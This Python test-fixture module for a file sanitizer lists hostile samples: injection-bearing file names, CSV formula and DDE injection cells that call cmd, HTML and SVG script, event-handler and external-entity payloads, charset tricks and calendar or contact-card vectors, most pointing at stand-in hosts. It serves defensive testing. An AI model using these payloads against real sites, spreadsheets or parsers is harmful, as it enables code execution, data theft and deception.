"""Names, text, tables, pages, drawings and calendars once more, in the writings attackers use."""

from collections.abc import Callable

from tests.engines.sanitize.samples import MARK, Sample
from tests.engines.sanitize.samples.texts import (
    calendar,
    card,
    csv,
    drawing,
    html,
    ics,
    page,
    svg,
    table,
    text,
    txt,
    vcf,
)

_NAMES = (
    ("name.path", "/etc/会議.txt"),
    ("name.path", "C:\\会議.txt"),
    ("name.path", "C:会議.txt"),
    ("name.path", "\\\\server\\share\\会議.txt"),
    ("name.path", "..／..\\会議.txt"),
    ("name.stream", "会議.txt::$DATA"),
    ("name.direction", "会議\u2067fdp.txt"),
    ("name.direction", "会議\u200ftxt.txt"),
    ("name.control", "会議\x00.txt"),
    ("name.control", "会議\r\nX.txt"),
    ("name.invisible", "会議\u2028.txt"),
    ("name.invisible", "会\U000e0041議.txt"),
    ("name.invisible", "会議\u3164.txt"),
    ("name.invisible", "会\u034f議.txt"),
    ("name.dot-lookalike", "会議｡exe.txt"),
    ("name.dot-lookalike", "会議﹒exe.txt"),
    ("name.forbidden-character", "会議|calc.txt"),
    ("name.trailing-dot", "会議.txt..."),
    ("name.padded", "会議.pdf\u2003\u2003\u2003\u2003\u2003.txt"),
    ("name.padded", "会議.pdf\u00a0\u00a0\u00a0\u00a0\u00a0.txt"),
    ("name.reserved", "NUL.tar.txt"),
    ("name.reserved", "com1 .txt"),
    ("name.reserved", "CONIN$.txt"),
    ("name.reserved", "LPT¹.txt"),
)
_CELLS = (
    ("csv.formula-hidden", "\u00a0=1+1"),
    ("csv.formula-hidden", "\u3000＝1+1"),
    ("csv.formula-equals", "\u200b=1+1"),
    ("csv.formula-equals", "\ufeff=1+1"),
    ("csv.formula-fullwidth", "＠SUM(A1)"),
    ("csv.formula-fullwidth", "－1+cmd|' /c x'!A1"),
    ("csv.formula-plus", "+1+cmd|' /c x'!A1"),
    ("csv.formula-minus", "-2+3+cmd|' /c x'!A1"),
    ("csv.formula-after-tab", "\r\n=1+1"),
    ("csv.formula-other-delimiter", '甲;"=1+1;"'),
    ("csv.formula-other-delimiter", "甲;\"=cmd|'/c calc'!A1;\"乙"),
    ("csv.formula-other-delimiter", "甲\t ＝1+1"),
    ("csv.formula-other-delimiter", "甲;-1 +cmd|' /c x'!A1"),
    ("csv.formula-other-delimiter", "甲;＋A1"),
    ("csv.formula-other-delimiter", "甲;－A1"),
    ("csv.formula-other-delimiter", "甲|@SUM(A1)"),
    ("csv.formula-other-delimiter", ";=1+1"),
    ("csv.dde", "@SUM(1)*cmd|'/c x'!A1"),
    ("csv.dde", '=DDE("cmd";"/C x";"A0")'),
    ("csv.hyperlink", '=IMPORTXML("http://x.example/","//a")'),
    ("csv.hyperlink", '=WEBSERVICE("http://x.example/"&A1)'),
    ("text.terminal-escape", "\x1b[2J甲"),
    ("text.direction", "甲\u202e乙"),
)  # fmt: skip


def _tsv(body: str) -> Callable[[], bytes]:
    return f"氏名\t備考\r\n山田\t{body}\r\n".encode


def _tabbed() -> bytes:
    return "氏名\t備考\r\n山田\t済\r\n".encode()


TABLES = (
    *(Sample(vector, f"{n}.csv", lambda cell=cell: csv(cell), table) for n, (vector, cell) in enumerate(_CELLS)),
    Sample("csv.formula-equals", "a.tsv", _tsv("=1+1"), _tabbed),
    Sample("csv.dde", "a.tsv", _tsv("=cmd|'/c x'!A1"), _tabbed),
    Sample("csv.formula-equals", "utf-16.csv", lambda: "甲,=1+1\r\n".encode("utf-16"), table),
    Sample("csv.formula-other-delimiter", "semicolons.csv", '甲,"乙;""=1+1"\r\n'.encode, table),
    Sample("csv.formula-equals", "unclosed.csv", '甲,"乙\r\n丙",=1+1'.encode, table),
    Sample("csv.formula-equals", "first.csv", "=1+1,甲\r\n".encode, table),
    Sample("csv.sylk", "spaced.csv", lambda: b'ID;PWXL\r\nC;Y1;X1;K0;EEXEC("x")\r\nE\r\n', table, "rejected"),
    Sample("csv.sylk", "sylk.txt", lambda: b"ID;P\nE\n", text, "rejected"),
)  # fmt: skip

TEXTS = (
    *(Sample(vector, name, text, text) for vector, name in _NAMES),
    Sample("text.terminal-escape", "title.txt", lambda: txt("\x1b]8;;http://x.example/\x1b\\"), text),
    Sample("text.terminal-escape", "device.txt", lambda: txt("\x1bP0;1|17/ab\x1b\\"), text),
    Sample("text.control", "next line.txt", lambda: txt("\x08\x08"), text),
    Sample("text.direction", "isolate.txt", lambda: txt("\u2066\u2069"), text),
    Sample("text.direction", "mark.txt", lambda: txt("\u200f"), text),
    Sample("text.invisible", "tags.txt", lambda: txt("\U000e0041\U000e0042"), text),
    Sample("text.invisible", "filler.txt", lambda: txt("\u3164\u115f"), text),
    Sample("text.invisible", "selectors.txt", lambda: txt("\ufe01\ufe02\ufe03"), text),
    Sample("text.invisible", "joiners.txt", lambda: txt("\u200d\u200d"), text),
    Sample("text.invisible", "soft hyphen.txt", lambda: txt("\u00ad"), text),
    Sample("text.unassigned", "private plane.txt", lambda: txt("\U000f0041"), text),
    Sample("text.unassigned", "no character.txt", lambda: txt("\ufdd0"), text),
)  # fmt: skip

_PAGES = (
    ("html.script", "<SCRIPT SRC=//x.example/{M}></SCRIPT>"),
    ("html.script", "<svg><script>{M}</script></svg>"),
    ("html.template", "<noscript><p title='</noscript><script>{M}</script>'></noscript>"),
    ("html.script", "<math><mtext><table><mglyph><style><!--</style><script>{M}</script>"),
    ("html.event", "<img/src='x'/onerror={M}>"),
    ("html.event", "<body onpageshow='{M}'>"),
    ("html.event", "<details open ontoggle={M}>"),
    ("html.event", "<math href=x onclick={M}>"),
    ("html.javascript-url", "<a href='&#106;avascript:{M}'>x</a>"),
    ("html.javascript-url", "<a href=' \x01javascript:{M}'>x</a>"),
    ("html.javascript-url", "<a href='JAVA\nSCRIPT:{M}'>x</a>"),
    ("html.javascript-url", "<form><button formaction='javascript:{M}'>x</button></form>"),
    ("html.javascript-url", "<a href='vbscript:{M}'>x</a>"),
    ("html.javascript-url", "<svg><a xlink:href='javascript:{M}'>x</a></svg>"),
    ("html.javascript-url", "<a href='ms-msdt:/id {M}'>x</a>"),
    ("html.data-url", "<a href='DATA:text/html;base64,{M}'>x</a>"),
    ("html.data-url", "<object data='data:text/html,{M}'></object>"),
    ("html.frame", "<iframe srcdoc='&lt;script&gt;{M}&lt;/script&gt;'></iframe>"),
    ("html.frame", "<frameset><frame src='http://x.example/{M}'></frameset>"),
    ("html.frame", "<portal src='http://x.example/{M}'></portal>"),
    ("html.object", "<embed src='http://x.example/{M}.swf'>"),
    ("html.object", "<applet code='{M}'></applet>"),
    ("html.form", "<isindex action='http://x.example/{M}'>"),
    ("html.form", "<input type=hidden value='{M}'>"),
    ("html.form", "<textarea>{M}</textarea>"),
    ("html.meta-refresh", "<META HTTP-EQUIV='Refresh' CONTENT='0;URL=javascript:{M}'>"),
    ("html.link", "<link rel=dns-prefetch href='//x.example/{M}'>"),
    ("html.link", "<link rel=manifest href='{M}'>"),
    ("html.link", "<link rel=import href='{M}'>"),
    ("html.style", "<style>@font-face{{src:url(http://x.example/{M})}}</style>"),
    ("html.style", "<p style='background:url(http://x.example/{M})'>x</p>"),
    ("html.style", "<p style='behavior:url({M})'>x</p>"),
    ("html.style", "<p style='width:expression({M})'>x</p>"),
    ("html.style", "<p style='-moz-binding:url({M})'>x</p>"),
    ("html.image", "<img srcset='http://x.example/{M} 2x'>"),
    ("html.image", "<table background='http://x.example/{M}'></table>"),
    ("html.image", "<img src='\\\\x.example\\{M}'>"),
    ("html.image", "<input type=image src='http://x.example/{M}'>"),
    ("html.media", "<audio src='{M}'></audio>"),
    ("html.media", "<video poster='http://x.example/{M}'></video>"),
    ("html.media", "<bgsound src='{M}'>"),
    ("html.conditional-comment", "<!--[if gte mso 9]><v:rect><o:OLEObject/>{M}</v:rect><![endif]-->"),
    ("html.conditional-comment", "<xml id=x><a>{M}</a></xml>"),
    ("html.conditional-comment", "<![if !vml]>x<![endif]>"),
    ("html.hidden-text", "<p style='font-size:0'>{M}</p>"),
    ("html.hidden-text", "<p style='color:#fff;background:#fff'>{M}</p>"),
    ("html.hidden-text", "<p style='color:white'>{M}</p>"),
    ("html.hidden-text", "<font color=#FFFFFF>{M}</font>"),
    ("html.hidden-text", "<p style='position:absolute;left:-9999px'>{M}</p>"),
    ("html.hidden-text", "<p style='visibility : hidden'>{M}</p>"),
    ("html.hidden-text", "<p style='mso-hide:all'>{M}</p>"),
    ("html.hidden-text", "<p hidden>{M}</p>"),
    ("html.hidden-text", "<p style='opacity:0'>{M}</p>"),
    ("html.hidden-text", "<p style='text-indent:-9999px'>{M}</p>"),
    ("html.hidden-text", "<p style='display:/**/none'>{M}</p>"),
    ("html.hidden-text", "<p style='DISPLAY:N\\6FNE'>{M}</p>"),
    ("html.hidden-text", "<p style='clip-path:circle(0)'>{M}</p>"),
    ("html.hidden-text", "<p style='transform:scale(0)'>{M}</p>"),
    ("html.smuggling", "<script>a.download='x';a.href=URL.createObjectURL(b)//{M}</script>"),
    ("html.smuggling", "<a href='data:application/zip;base64,{M}' download='x.zip'>x</a>"),
    ("html.svg", "<svg><foreignObject><iframe>{M}</iframe></foreignObject></svg>"),
    ("html.template", "<noscript>{M}</noscript>"),
    ("html.comment", "<!--> {M} -->"),
    ("html.deceptive-link", "<a href='https://city.example.jp@evil.example/'>案内</a>"),
    ("html.deceptive-link", "<a href='https://xn--cty-bma.example.jp/'>案内</a>"),
    ("html.deceptive-link", "<a href='https://evil.example/'>https://www.city.example.jp/a</a>"),
    ("html.deceptive-link", "<a href='https://сity.example.jp/'>案内</a>"),
)  # fmt: skip


def _paged(body: str) -> Callable[[], bytes]:
    return lambda: html(body.replace("{M}", MARK).replace("{{", "{").replace("}}", "}"))


def _labelled(charset: str, body: bytes) -> Callable[[], bytes]:
    label = f"<meta charset={charset}>".encode()
    return lambda: (
        b"<!DOCTYPE html><html><head>" + label + b"</head><body>" + body + b"</body></html>"
    )


PAGES = (
    *(Sample(vector, f"{n}.html", _paged(body), page, "text-only") for n, (vector, body) in enumerate(_PAGES)),
    Sample("html.charset", "seven bits.html", _labelled("utf-7", b"+ADw-script+AD4-x+ADw-/script+AD4-"), page, "text-only"),
    Sample("html.charset", "other seven bits.html", _labelled("unicode-1-1-utf-7", b"+ADw-script+AD4-"), page, "text-only"),
    Sample("html.script", "lead byte eats a quote.html", _labelled("shift_jis", b'<p title="\x82">' + b"<script>" + MARK.encode() + b"</script>"), page, "text-only"),
    Sample("html.event", "lead byte.html", _labelled("euc-jp", b'<img alt="\xe3"" onerror=' + MARK.encode() + b">"), page, "text-only"),
    Sample("html.script", "no charset.html", lambda: b"<script>" + MARK.encode() + b"</script>" + "会議".encode("cp932"), page, "text-only"),
    Sample("html.script", "16 bits.html", lambda: f"<p>会議</p><script>{MARK}</script>".encode("utf-16"), page, "text-only"),
    Sample("text.direction", "turned.html", _paged("<p>会議\u202e案内</p>"), page, "text-only"),
)  # fmt: skip

_DRAWINGS = (
    ("svg.script", "<script xlink:href='http://x.example/{M}'/>"),
    ("svg.script", "<script><![CDATA[{M}]]></script>"),
    ("svg.script", "<s:script xmlns:s='http://www.w3.org/2000/svg'>{M}</s:script>"),
    ("svg.script", "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>{M}</h:script>"),
    ("svg.event", "<rect onclick='{M}'/>"),
    ("svg.event", "<animate onbegin='{M}'/>"),
    ("svg.foreign-object", "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{M}'/></foreignObject>"),
    ("svg.external-use", "<use href='data.svg#{M}'/>"),
    ("svg.data-svg", "<use xlink:href='data:image/svg+xml;base64,{M}#a'/>"),
    ("svg.data-svg", "<image href='data:image/svg+xml;utf8,{M}'/>"),
    ("svg.external-image", "<image href='\\\\x.example\\{M}'/>"),
    ("svg.link", "<a xlink:href='javascript:{M}'><rect/></a>"),
    ("svg.animate", "<rect><animate attributeName='xlink:href' values='javascript:{M}'/></rect>"),
    ("svg.animate", "<rect><animateMotion/><set attributeName='onclick' to='{M}'/></rect>"),
    ("svg.style-url", "<rect style='fill:url(http://x.example/{M})'/>"),
    ("svg.style-url", "<rect fill='url(\"http://x.example/{M}\")'/>"),
    ("svg.style-url", "<rect filter='url(other.svg#{M})'/>"),
    ("svg.style-url", "<rect mask='URL ( http://x.example/{M} )'/>"),
    ("svg.style-url", "<style>@import url(http://x.example/{M});</style>"),
    ("svg.fe-image", "<filter id='a'><feImage xlink:href='http://x.example/{M}'/></filter>"),
    ("svg.font", "<font-face><font-face-src><font-face-uri xlink:href='{M}'/></font-face-src></font-face>"),
    ("svg.metadata", "<metadata><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>{M}</rdf:RDF></metadata>"),
    ("xml.processing-instruction", "<?xml-model href='{M}'?>"),
)  # fmt: skip
DRAWINGS = (
    *(Sample(vector, f"{n}.svg", lambda body=body: svg(body.replace("{M}", MARK)), drawing) for n, (vector, body) in enumerate(_DRAWINGS)),
    Sample("svg.use-bomb", "circle.svg", lambda: svg('<g id="a"><use href="#a"/><use href="#a"/></g>'), drawing, "held"),
    Sample("xml.external-entity", "parameter.svg", lambda: svg("", head=f"<!DOCTYPE svg [<!ENTITY % a SYSTEM 'http://x.example/{MARK}'>%a;]>"), drawing, "held"),
    Sample("xml.external-entity", "public.svg", lambda: svg("", head=f"<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://x.example/{MARK}'>"), drawing, "held"),
    Sample("xml.dtd", "16 bits.svg", lambda: svg("&a;", head='<!DOCTYPE svg [<!ENTITY a "b">]>').decode().encode("utf-16"), drawing, "held"),
    Sample("svg.stylesheet", "transform.svg", lambda: svg("", head="<?xml-stylesheet type='text/xsl' href='x.xsl'?>"), drawing),
)  # fmt: skip

_DATES = (
    ("calendar.attach", "ATTACH;FMTTYPE=application/octet-stream;ENCODING=BASE64;VALUE=BINARY:{M}"),
    ("calendar.attach", "ATTACH:file://x.example/{M}"),
    ("calendar.alarm", "BEGIN:VALARM\r\nACTION:EMAIL\r\nATTENDEE:mailto:x@x.example\r\nDESCRIPTION:{M}\r\nEND:VALARM"),
    ("calendar.alarm", "BEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:\\\\\\\\x\\\\{M}.wav\r\nEND:VALARM"),
    ("calendar.html", 'X-ALT-DESC;FMTTYPE="text/html":<script>{M}</script>'),
    ("calendar.private", "X-MS-OLK-APPTSEQTIME:{M}"),
    ("calendar.private", "ORGANIZER;CN=市長:javascript:{M}"),
    ("calendar.private", 'ATTENDEE;DIR="ldap://x.example/{M}":http://x.example/'),
    ("calendar.private", "IANA-THING:{M}"),
    ("calendar.rule-bomb", "RRULE:FREQ=MINUTELY;INTERVAL=1;COUNT=1000000"),
    ("calendar.rule-bomb", "RRULE:FREQ=YEARLY;X-{M}=1"),
    ("calendar.image", "IMAGE;VALUE=URI:http://x.example/{M}"),
    ("calendar.url", "U\r\n RL:http://x.example/{M}"),
)  # fmt: skip
_CARDS = (
    ("card.media", "LOGO;ENCODING=b;TYPE=JPEG:{M}"),
    ("card.media", "SOUND;VALUE=uri:http://x.example/{M}"),
    ("card.media", "KEY:data:application/pgp-keys;base64,{M}"),
    ("card.url", "SOURCE:ldap://x.example/{M}"),
    ("card.url", "item1.URL:http://x.example/{M}"),
    ("card.private", "AGENT:BEGIN:VCARD\\n{M}\\nEND:VCARD"),
    ("card.private", "X-SKYPE:{M}"),
)  # fmt: skip
DATES = (
    *(Sample(vector, f"{n}.ics", lambda line=line: ics(line.replace("{M}", MARK) + "\r\n"), calendar) for n, (vector, line) in enumerate(_DATES)),
    Sample("calendar.method", "reply.ics", lambda: ics("", outside="METHOD:REPLY\r\n"), calendar),
    *(Sample(vector, f"{n}.vcf", lambda line=line: vcf(line.replace("{M}", MARK) + "\r\n"), card) for n, (vector, line) in enumerate(_CARDS)),
)  # fmt: skip

SAMPLES = (*TEXTS, *TABLES, *PAGES, *DRAWINGS, *DATES)
